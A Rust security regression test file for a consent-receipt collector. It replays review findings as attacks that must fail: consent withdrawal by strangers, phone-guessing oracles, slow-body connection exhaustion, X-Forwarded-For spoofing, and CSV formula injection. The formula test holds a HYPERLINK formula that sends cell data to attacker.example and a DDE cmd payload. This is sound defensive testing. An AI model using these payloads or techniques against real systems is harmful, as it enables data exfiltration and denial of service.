//! The outside security review's findings (issue 13), each replayed as the outsider did it: a
//! stranger holding only what the public sees (a receipt's reference, the public receipts,
//! `curl`) against the real binary on loopback. Each test is the attack; it passes when the
//! attack fails. RELIABILITY.md ("Security review") lists what each did before and after.

use std::io::{Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::path::Path;
use std::time::{Duration, Instant};

use serde_json::{Value, json};

use crate::process::{Running, demo_site_with, run, spawn, spawn_serve, stdout};
use crate::support::{fixture, payload_of};

fn agent() -> ureq::Agent {
    ureq::Agent::config_builder()
        .http_status_as_error(false)
        .timeout_global(Some(Duration::from_secs(10)))
        .build()
        .into()
}

/// `method url` with `headers` and an optional JSON body: the status and the body.
fn call(method: &str, url: &str, headers: &[(&str, &str)], body: Option<&str>) -> (u16, String) {
    let mut req = ureq::http::Request::builder().method(method).uri(url);
    for (name, value) in headers {
        req = req.header(*name, *value);
    }
    let req = match body {
        Some(body) => req
            .header("content-type", "application/json")
            .body(body.to_owned()),
        None => req.body(String::new()),
    }
    .expect("request");
    match agent().run(req) {
        Ok(mut r) => (
            r.status().as_u16(),
            r.body_mut().read_to_string().unwrap_or_default(),
        ),
        Err(e) => (0, e.to_string()),
    }
}

fn post(url: &str, body: &str) -> (u16, String) {
    call("POST", url, &[], Some(body))
}

fn get(url: &str) -> (u16, String) {
    call("GET", url, &[], None)
}

fn json(text: &str) -> Value {
    serde_json::from_str(text).unwrap_or_else(|e| panic!("JSON ({e}): {text}"))
}

/// A fresh 32-hex key.
fn key(n: u32) -> String {
    format!("{n:032x}")
}

/// The demo site's cookie choice as the widget sends it (the demo has a fourth category).
fn cookie_choice() -> Value {
    let mut body = json(&fixture("receipt_request_cookies_updated.json"));
    body["categories"]
        .as_array_mut()
        .expect("categories")
        .push(json!({ "id": "session_recording", "granted": false }));
    body
}

/// A second site on the same collector, for what crosses sites.
const OTHER_SITE: &str = r#"
[[site]]
id = "other"
allowed_origins = ["http://127.0.0.1:9"]
languages = ["ru", "kk", "en"]
default_language = "ru"
current_policy = "2026-03"
retention_days = 1095

[site.operator]
name = "ТОО «Другой сайт»"
bin = "180940012348"
address = "Алматы"
contact = "privacy@other.kz"
jurisdiction = "KZ"

[[site.policy]]
version = "2026-03"
published = "2026-03-01"
files = { ru = "policies/consent-2026-03.ru.md", kk = "policies/consent-2026-03.kk.md", en = "policies/consent-2026-03.en.md" }

[[site.purpose]]
id = "feedback"
required = true
"#;

/// A collector serving the demo site (and `extra` TOML after it), with its temp dir.
fn collector(extra: &str) -> (tempfile::TempDir, Running) {
    let tmp = tempfile::tempdir().expect("tempdir");
    let site = demo_site_with(tmp.path(), extra);
    let data = tmp.path().join("data");
    let server = spawn_serve(&site.join("kelisim.toml"), &data, &tmp.path().join("log"));
    (tmp, server)
}

/// An admin-scope token for `site` from the CLI.
fn admin_token(tmp: &Path, site: &str) -> String {
    let out = run(&[
        "tokens",
        "create",
        "--data-dir",
        tmp.join("data").to_str().expect("utf8"),
        "--config",
        tmp.join("site/kelisim.toml").to_str().expect("utf8"),
        "--site",
        site,
        "--scope",
        "admin",
    ]);
    assert!(out.status.success(), "{}", crate::process::stderr(&out));
    stdout(&out).trim().to_owned()
}

/// Every string anywhere in `value`.
fn strings(value: &Value, out: &mut Vec<String>) {
    match value {
        Value::String(s) => out.push(s.clone()),
        Value::Array(items) => items.iter().for_each(|v| strings(v, out)),
        Value::Object(map) => map.values().for_each(|v| strings(v, out)),
        _ => {}
    }
}

/// The payload of the receipt a `{id, seq, jws}` answer carries.
fn payload(answer: &str) -> Value {
    payload_of(json(answer)["jws"].as_str().expect("jws"))
}

/// A problem document refusing the request with one of `codes`.
#[track_caller]
fn assert_refused(status: u16, body: &str, codes: &[&str], what: &str) {
    assert!(
        (400..500).contains(&status),
        "{what}: answered {status}, {body}"
    );
    let code = json(body)["code"].as_str().unwrap_or_default().to_owned();
    assert!(codes.contains(&code.as_str()), "{what}: {status} {body}");
}

/// Finding 1: `GET /v1/receipts/{ref}` served the payload with `subject.browser_id`, and
/// `POST …/withdraw` with `{"key", "browser_id"}` (no Origin) withdrew the consent.
#[test]
fn finding_1_a_reference_alone_withdraws_nothing() {
    let (_tmp, server) = collector("");
    let base = &server.base;
    let choice = cookie_choice();
    let reference = choice["key"].as_str().expect("key").to_owned();
    let (status, answer) = post(&format!("{base}/v1/receipts"), &choice.to_string());
    assert_eq!(status, 201, "{answer}");

    // The stranger has the reference (an address, analytics, a cookie) and reads the receipt.
    let (status, public) = get(&format!("{base}/v1/receipts/{reference}"));
    assert_eq!(status, 200, "{public}");
    let seen = payload(&public);
    let mut known = vec![
        reference.clone(),
        json(&public)["id"].as_str().expect("id").to_owned(),
    ];
    strings(&seen["subject"], &mut known);
    // Every withdrawal body what the public sees allows, from a script without Origin.
    let url = format!("{base}/v1/receipts/{reference}/withdraw");
    let mut tries = vec![json!({ "key": key(1) })];
    for (n, value) in known.iter().filter(|v| v.len() == 32).enumerate() {
        let k = key(10 + u32::try_from(n).expect("few"));
        tries.push(json!({ "key": k, "browser_id": value }));
        tries.push(json!({ "key": k, "secret": value }));
    }
    for body in &tries {
        let (status, answer) = post(&url, &body.to_string());
        assert_refused(
            status,
            &answer,
            &["not_receipt_holder", "invalid_body"],
            &format!("withdrawal by a stranger with {body}"),
        );
    }
    let (_, status) = get(&format!("{base}/v1/receipts/{reference}/status?site=demo"));
    assert_eq!(json(&status)["status"], "updated", "{status}");

    // The browser that gave it holds the secret it sent once, and withdraws.
    let secret = choice["secret"]
        .as_str()
        .expect("the widget sends a secret");
    let (status, answer) = post(
        &format!("{url}?site=demo"),
        &json!({ "key": key(2), "secret": secret }).to_string(),
    );
    assert_eq!(status, 201, "{answer}");
    let (_, status) = get(&format!("{base}/v1/receipts/{reference}/status?site=demo"));
    assert_eq!(json(&status)["status"], "withdrawn", "{status}");
    // Nothing served carries the secret, nor the browser's id.
    for path in [
        format!("/v1/receipts/{reference}"),
        format!("/v1/receipts/{reference}?format=jws"),
        format!("/v1/receipts/{reference}?format=html"),
    ] {
        let (_, text) = get(&format!("{base}{path}"));
        let served = if path.ends_with("jws") {
            payload_of(&text).to_string()
        } else if path.contains("html") {
            text
        } else {
            payload(&text).to_string()
        };
        assert!(!served.contains(secret), "{path} serves the secret");
        let browser = choice["subject"]["browser_id"].as_str().expect("browser");
        assert!(!served.contains(browser), "{path} serves the browser id");
    }
    assert!(server.terminate().success());
}

/// Finding 3: public receipts carried `subject.identifiers[].hmac`, and `POST /v1/receipts`
/// of a `refused` receipt with a guessed phone returned the same keyed hash (one key per
/// data directory: the same on every site, and still in the JWS after an erasure).
#[test]
fn finding_3_no_public_receipt_tests_or_links_a_phone() {
    let (tmp, server) = collector(OTHER_SITE);
    let base = &server.base;
    let victim = json(&fixture("receipt_request_form_given.json"));
    let (status, answer) = post(&format!("{base}/v1/receipts"), &victim.to_string());
    assert_eq!(status, 201, "{answer}");
    let mut victims = Vec::new();
    strings(&payload(&answer)["subject"], &mut victims);
    assert!(!victims.is_empty(), "the receipt commits to the phone");

    // Guesses: refused receipts with candidate phones, on this site and on the other.
    let started = Instant::now();
    let mut answers = Vec::new();
    for (n, (site, phone)) in [
        ("demo", "+7 701 000 00 01"),
        ("demo", "+7 701 123 45 67"),
        ("demo", "8 702 999 99 99"),
        ("other", "+7 701 123 45 67"),
        ("other", "8 (701) 123-45-67"),
    ]
    .into_iter()
    .enumerate()
    {
        let mut guess = victim.clone();
        guess["site"] = site.into();
        guess["event"] = "refused".into();
        guess["key"] = key(100 + u32::try_from(n).expect("few")).into();
        guess["subject"]["browser_id"] = key(150 + u32::try_from(n).expect("few")).into();
        guess["purposes"][0]["granted"] = false.into();
        guess["subject"]["identifiers"][0]["value"] = phone.into();
        let (status, answer) = post(&format!("{base}/v1/receipts"), &guess.to_string());
        assert_eq!(status, 201, "{answer}");
        let mut seen = Vec::new();
        strings(&payload(&answer)["subject"], &mut seen);
        answers.push((site, phone, seen));
    }
    let guessing = started.elapsed();
    eprintln!("finding 3: 5 guesses in {guessing:?}, none equal to the victim's commitment");
    for (site, phone, seen) in &answers {
        for value in seen.iter().filter(|v| v.len() >= 32) {
            assert!(
                !victims.contains(value),
                "guess {phone:?} on {site} returned the victim's `{value}` ({guessing:?} for all guesses)"
            );
        }
    }
    // Two receipts of the same phone share nothing, on one site or across sites.
    let same: Vec<&Vec<String>> = answers
        .iter()
        .filter(|(_, phone, _)| phone.contains("123"))
        .map(|(_, _, seen)| seen)
        .collect();
    for (i, a) in same.iter().enumerate() {
        for b in &same[i + 1..] {
            assert!(
                a.iter().filter(|v| v.len() >= 32).all(|v| !b.contains(v)),
                "{a:?} and {b:?} link one phone"
            );
        }
    }

    // The idempotency check is no oracle either: the victim's own key with everything the
    // public receipt shows and a guessed phone is a conflict, whichever the phone.
    let (_, public) = get(&format!(
        "{base}/v1/receipts/{}",
        victim["key"].as_str().expect("key")
    ));
    let shown = payload(&public);
    for phone in ["+7 701 000 00 01", "+7 701 123 45 67"] {
        let mut replay = victim.clone();
        replay["subject"]["identifiers"][0]["value"] = phone.into();
        if let Some(browser) = shown["subject"]["browser_id"].as_str() {
            replay["subject"]["browser_id"] = browser.into();
        } else {
            replay["subject"]["browser_id"] = key(7).into();
        }
        if replay.get("secret").is_some() {
            replay["secret"] = key(8).into();
        }
        let (status, answer) = post(&format!("{base}/v1/receipts"), &replay.to_string());
        assert_refused(
            status,
            &answer,
            &["idempotency_conflict"],
            &format!("a replay of the victim's key guessing {phone}"),
        );
    }

    // Until erasure the operator can prove whose receipt it is; afterwards nobody can.
    let token = admin_token(tmp.path(), "demo");
    let auth = format!("Bearer {token}");
    let receipt_id = json(&answer_of(base, &victim))["id"]
        .as_str()
        .expect("id")
        .to_owned();
    let detail_url = format!("{base}/v1/admin/sites/demo/receipts/{receipt_id}");
    let (status, detail) = call("GET", &detail_url, &[("authorization", &auth)], None);
    assert_eq!(status, 200, "{detail}");
    let opening = json(&detail)["subject_salt"].clone();
    assert!(
        opening.is_string(),
        "the admin can open the commitment: {detail}"
    );
    let (status, erased) = call(
        "POST",
        &format!("{base}/v1/admin/sites/demo/erasures"),
        &[("authorization", &auth)],
        Some(r#"{"subject":"+7 701 123 45 67"}"#),
    );
    assert_eq!(status, 200, "{erased}");
    let (_, detail) = call("GET", &detail_url, &[("authorization", &auth)], None);
    assert!(json(&detail)["subject_salt"].is_null(), "{detail}");
    let (_, found) = call(
        "GET",
        &format!("{base}/v1/admin/sites/demo/receipts?subject=87011234567"),
        &[("authorization", &auth)],
        None,
    );
    assert_eq!(json(&found)["total"], 0, "{found}");
    assert!(server.terminate().success());
}

/// The `{id, seq, jws}` of the receipt `request` recorded (a replay answers with it).
fn answer_of(base: &str, request: &Value) -> String {
    let (status, answer) = post(&format!("{base}/v1/receipts"), &request.to_string());
    assert_eq!(status, 200, "{answer}");
    answer
}

/// Finding 4: `context.form_id` (free text from any visitor) reached CSV cells unchanged.
#[test]
fn finding_4_formulas_never_reach_a_spreadsheet() {
    let (tmp, server) = collector("");
    let base = &server.base;
    let formulas = [
        r#"=HYPERLINK("https://attacker.example/?x="&A2,"Open receipt")"#,
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "+1+1",
        "-2+3",
        "\u{202e}feedback",
    ];
    for (n, formula) in formulas.iter().enumerate() {
        let n = u32::try_from(n).expect("few");
        let mut request = json(&fixture("receipt_request_form_given.json"));
        request["key"] = key(200 + n).into();
        request["context"]["form_id"] = (*formula).into();
        let (status, answer) = post(&format!("{base}/v1/receipts"), &request.to_string());
        assert_refused(
            status,
            &answer,
            &["invalid_body"],
            &format!("form_id {formula:?}"),
        );
        assert!(answer.contains("form_id"), "{answer}");
        request["key"] = key(300 + n).into();
        request["context"]["form_id"] = "feedback".into();
        request["context"]["fields"] = json!(["name", formula]);
        let (status, answer) = post(&format!("{base}/v1/receipts"), &request.to_string());
        assert_refused(
            status,
            &answer,
            &["invalid_body"],
            &format!("field {formula:?}"),
        );
    }
    let (status, answer) = post(
        &format!("{base}/v1/receipts"),
        &fixture("receipt_request_form_given.json"),
    );
    assert_eq!(status, 201, "{answer}");
    let token = admin_token(tmp.path(), "demo");
    let (status, csv) = call(
        "GET",
        &format!("{base}/v1/admin/sites/demo/export?format=csv"),
        &[("authorization", &format!("Bearer {token}"))],
        None,
    );
    assert_eq!(status, 200);
    assert_no_formula_cells(&csv);
    assert!(server.terminate().success());
}

/// No CSV cell (quoted or not) begins with a character a spreadsheet reads as a formula.
#[track_caller]
pub fn assert_no_formula_cells(csv: &str) {
    for line in csv.trim_start_matches('\u{feff}').split("\r\n") {
        let mut cell = String::new();
        let mut quoted = false;
        let mut cells = Vec::new();
        let mut chars = line.chars().peekable();
        while let Some(c) = chars.next() {
            match c {
                '"' if quoted && chars.peek() == Some(&'"') => {
                    cell.push('"');
                    chars.next();
                }
                '"' => quoted = !quoted,
                ',' if !quoted => cells.push(std::mem::take(&mut cell)),
                c => cell.push(c),
            }
        }
        cells.push(cell);
        for cell in cells {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a cell a spreadsheet runs: {cell:?} in {line}"
            );
        }
    }
}

/// Bytes of a request whose body never arrives: `Content-Length: 10000` and one byte.
const SLOW_BODY: &[u8] = b"POST /v1/receipts HTTP/1.1\r\nHost: 127.0.0.1\r\n\
    Content-Type: application/json\r\nContent-Length: 10000\r\n\r\n{";

/// A connection to `to` from the loopback address `from` (127.0.0.x).
fn connect_from(from: [u8; 4], to: SocketAddr) -> std::io::Result<TcpStream> {
    let socket = socket2::Socket::new(socket2::Domain::IPV4, socket2::Type::STREAM, None)?;
    socket.bind(&SocketAddr::from((from, 0)).into())?;
    socket.connect_timeout(&to.into(), Duration::from_secs(3))?;
    Ok(socket.into())
}

fn address(base: &str) -> SocketAddr {
    base.trim_start_matches("http://")
        .parse()
        .expect("host:port")
}

/// Sends `request` on a new connection from `from`; the whole answer, or why there is none.
fn raw(from: [u8; 4], to: SocketAddr, request: &[u8]) -> Result<String, String> {
    let mut stream = connect_from(from, to).map_err(|e| format!("connect: {e}"))?;
    stream
        .set_read_timeout(Some(Duration::from_secs(3)))
        .map_err(|e| e.to_string())?;
    stream
        .write_all(request)
        .map_err(|e| format!("write: {e}"))?;
    let mut answer = Vec::new();
    match stream.read_to_end(&mut answer) {
        Ok(_) => Ok(String::from_utf8_lossy(&answer).into_owned()),
        Err(_) if !answer.is_empty() => Ok(String::from_utf8_lossy(&answer).into_owned()),
        Err(e) => Err(format!("read: {e}")),
    }
}

/// Finding 5: a body that never arrives held its connection past 75 s, and with the
/// open-file limit at 256, 300 of them made every new connection time out.
#[test]
fn finding_5_slow_bodies_cannot_take_the_server_down() {
    let tmp = tempfile::tempdir().expect("tempdir");
    // The default per-address cap (128); a short body deadline keeps the test short.
    let site = demo_site_with(tmp.path(), "[rate_limit]\nbody_timeout_secs = 3\n");
    let data = tmp.path().join("data");
    // The open-file limit a small VM or a default container gives a service.
    let mut cmd = std::process::Command::new("sh");
    cmd.arg("-c")
        .arg("ulimit -n 256 && exec \"$0\" \"$@\"")
        .arg(crate::process::BIN)
        .args(["serve", "--listen", "127.0.0.1:0", "--config"])
        .arg(site.join("kelisim.toml"))
        .arg("--data-dir")
        .arg(&data)
        .arg("--widget-dir")
        .arg(data.join("no-widget"));
    for (key, _) in std::env::vars() {
        if key.starts_with("KELISIM_") {
            cmd.env_remove(key);
        }
    }
    cmd.env("RUST_LOG", "info");
    let server = spawn(cmd, &data, &tmp.path().join("log"));
    let to = address(&server.base);
    let started = Instant::now();
    let mut held = Vec::new();
    for _ in 0..300 {
        if let Ok(mut stream) = connect_from([127, 0, 0, 1], to) {
            // A connection the server already shut may refuse the write: it is held anyway.
            let _ = stream.write_all(SLOW_BODY);
            held.push(stream);
        }
    }
    // Another client, on its own address, is still served at once.
    let health = b"GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n";
    let other = raw([127, 0, 0, 2], to, health);
    assert!(
        other
            .as_deref()
            .is_ok_and(|a| a.starts_with("HTTP/1.1 200")),
        "with {} slow bodies sent from one address, another client got {other:?}",
        held.len()
    );
    // The slow bodies themselves are cut off: every connection is answered (408) or closed
    // within the body deadline.
    let deadline = started + Duration::from_secs(15);
    let mut open = 0;
    let mut timed_out = 0;
    for stream in &mut held {
        let left = deadline
            .saturating_duration_since(Instant::now())
            .max(Duration::from_millis(10));
        stream.set_read_timeout(Some(left)).expect("timeout");
        let mut answer = Vec::new();
        match stream.read_to_end(&mut answer) {
            Ok(_) => {
                if answer.starts_with(b"HTTP/1.1 408") {
                    timed_out += 1;
                }
            }
            Err(e)
                if matches!(
                    e.kind(),
                    std::io::ErrorKind::WouldBlock | std::io::ErrorKind::TimedOut
                ) =>
            {
                open += 1;
            }
            Err(_) => {} // reset: closed
        }
    }
    assert_eq!(
        open,
        0,
        "{open} of {} slow connections still open after {:?}",
        held.len(),
        started.elapsed()
    );
    assert!(
        timed_out > 0,
        "the held ones were answered 408 body_timeout"
    );
    eprintln!(
        "finding 5: {} connections sent a slow body from one address; another address \
         answered at once; {timed_out} answered 408, the rest closed; all gone after {:?}",
        held.len(),
        started.elapsed()
    );
    // Their places came back: the same address is served again.
    drop(held);
    let again = raw([127, 0, 0, 1], to, health);
    assert!(
        again
            .as_deref()
            .is_ok_and(|a| a.starts_with("HTTP/1.1 200")),
        "the address that sent them, once they are gone: {again:?}"
    );
    assert!(server.terminate().success());
}

/// Finding 6: an attacker filed a form receipt under the victim's `browser_id` (read from the
/// victim's public receipt) with the attacker's own phone; the admin, honouring the
/// attacker's withdrawal request by phone, withdrew the victim's cookie choice too.
#[test]
fn finding_6_a_stranger_cannot_attach_a_victims_browser_to_their_phone() {
    let (tmp, server) = collector("");
    let base = &server.base;
    let choice = cookie_choice();
    let reference = choice["key"].as_str().expect("key").to_owned();
    let (status, answer) = post(&format!("{base}/v1/receipts"), &choice.to_string());
    assert_eq!(status, 201, "{answer}");
    // Whatever the public receipt shows of the victim's browser (or, lacking it, the
    // reference) becomes the attacker's form receipt's browser.
    let (_, public) = get(&format!("{base}/v1/receipts/{reference}"));
    let shown = payload(&public);
    let claimed = shown["subject"]["browser_id"]
        .as_str()
        .unwrap_or(&reference)
        .to_owned();
    let mut attack = json(&fixture("receipt_request_form_given.json"));
    attack["key"] = key(400).into();
    attack["subject"]["browser_id"] = claimed.into();
    attack["subject"]["identifiers"][0]["value"] = "+7 777 555 44 33".into();
    let (status, answer) = post(&format!("{base}/v1/receipts"), &attack.to_string());
    assert_eq!(status, 201, "{answer}");
    // The attacker asks the operator to withdraw "their" consents, by their phone.
    let token = admin_token(tmp.path(), "demo");
    let (status, done) = call(
        "POST",
        &format!("{base}/v1/admin/sites/demo/withdrawals"),
        &[("authorization", &format!("Bearer {token}"))],
        Some(r#"{"subject":"+7 777 555 44 33"}"#),
    );
    assert_eq!(status, 200, "{done}");
    let (_, status) = get(&format!("{base}/v1/receipts/{reference}/status?site=demo"));
    assert_eq!(
        json(&status)["status"],
        "updated",
        "the victim's cookie choice: {status} (withdrawals: {done})"
    );
    assert!(server.terminate().success());
}

/// Finding 7: behind a trusted proxy only the first `X-Forwarded-For` line was read, so a
/// client line plus the proxy's own line (HAProxy's default) let a client pick its bucket.
#[test]
fn finding_7_a_client_behind_the_proxy_cannot_pick_its_rate_limit_bucket() {
    for header in ["x-forwarded-for", "forwarded"] {
        let (_tmp, server) = collector(&format!(
            "[rate_limit]\nper_second = 5\nburst = 10\ntrusted_proxies = [\"127.0.0.1\"]\n\
             proxy_header = \"{header}\"\n"
        ));
        let to = address(&server.base);
        let template = json(&fixture("receipt_request_form_given.json"));
        let mut accepted = 0;
        for n in 0..40u32 {
            let mut body = template.clone();
            body["key"] = key(500 + n).into();
            let body = body.to_string();
            // The client's own line, then the one the proxy appends with the real address.
            let (spoofed, real) = if header == "forwarded" {
                (
                    format!("Forwarded: for=198.51.100.{n}\r\n"),
                    "Forwarded: for=203.0.113.7;proto=http\r\n".to_owned(),
                )
            } else {
                (
                    format!("X-Forwarded-For: 198.51.100.{n}\r\n"),
                    "X-Forwarded-For: 203.0.113.7\r\n".to_owned(),
                )
            };
            let request = format!(
                "POST /v1/receipts HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\
                 Content-Type: application/json\r\n{spoofed}{real}Content-Length: {}\r\n\r\n{body}",
                body.len()
            );
            let answer = raw([127, 0, 0, 1], to, request.as_bytes()).expect("answer");
            if answer.starts_with("HTTP/1.1 201") {
                accepted += 1;
            } else {
                assert!(answer.starts_with("HTTP/1.1 429"), "{answer}");
            }
        }
        assert!(
            accepted <= 20,
            "{header}: {accepted} of 40 accepted through a 5/s, burst 10 limit"
        );
        eprintln!("finding 7 ({header}): {accepted} of 40 accepted, the rest 429");
        assert!(server.terminate().success());
    }
}

/// Finding 8: the same reference recorded on another site made `GET /v1/receipts/{ref}`
/// answer 409 `ambiguous_reference`, and the widget's withdrawal (which named no site) was
/// dropped.
#[test]
fn finding_8_a_reference_copied_to_another_site_breaks_nothing_of_the_visitor() {
    let (_tmp, server) = collector(OTHER_SITE);
    let base = &server.base;
    let choice = cookie_choice();
    let reference = choice["key"].as_str().expect("key").to_owned();
    let (status, answer) = post(&format!("{base}/v1/receipts"), &choice.to_string());
    assert_eq!(status, 201, "{answer}");
    // The stranger records a receipt of their own under the visitor's reference elsewhere.
    let mut copy = json(&fixture("receipt_request_minimal.json"));
    copy["site"] = "other".into();
    copy["key"] = reference.clone().into();
    let (status, answer) = post(&format!("{base}/v1/receipts"), &copy.to_string());
    assert_eq!(status, 201, "{answer}");
    // Every address the widget and its notice build names the site.
    let (status, page) = get(&format!("{base}/v1/receipts/{reference}?site=demo&lang=ru"));
    assert_eq!(status, 200, "{page}");
    let (status, body) = get(&format!("{base}/v1/receipts/{reference}/status?site=demo"));
    assert_eq!(status, 200, "{body}");
    // The withdrawal goes through, by the visitor's secret, even without the site.
    let secret = choice["secret"]
        .as_str()
        .expect("the widget sends a secret");
    let (status, answer) = post(
        &format!("{base}/v1/receipts/{reference}/withdraw"),
        &json!({ "key": key(600), "secret": secret }).to_string(),
    );
    assert_eq!(status, 201, "{answer}");
    assert_eq!(payload(&answer)["site"], "demo");
    let (_, body) = get(&format!("{base}/v1/receipts/{reference}/status?site=demo"));
    assert_eq!(json(&body)["status"], "withdrawn", "{body}");
    assert!(server.terminate().success());
}
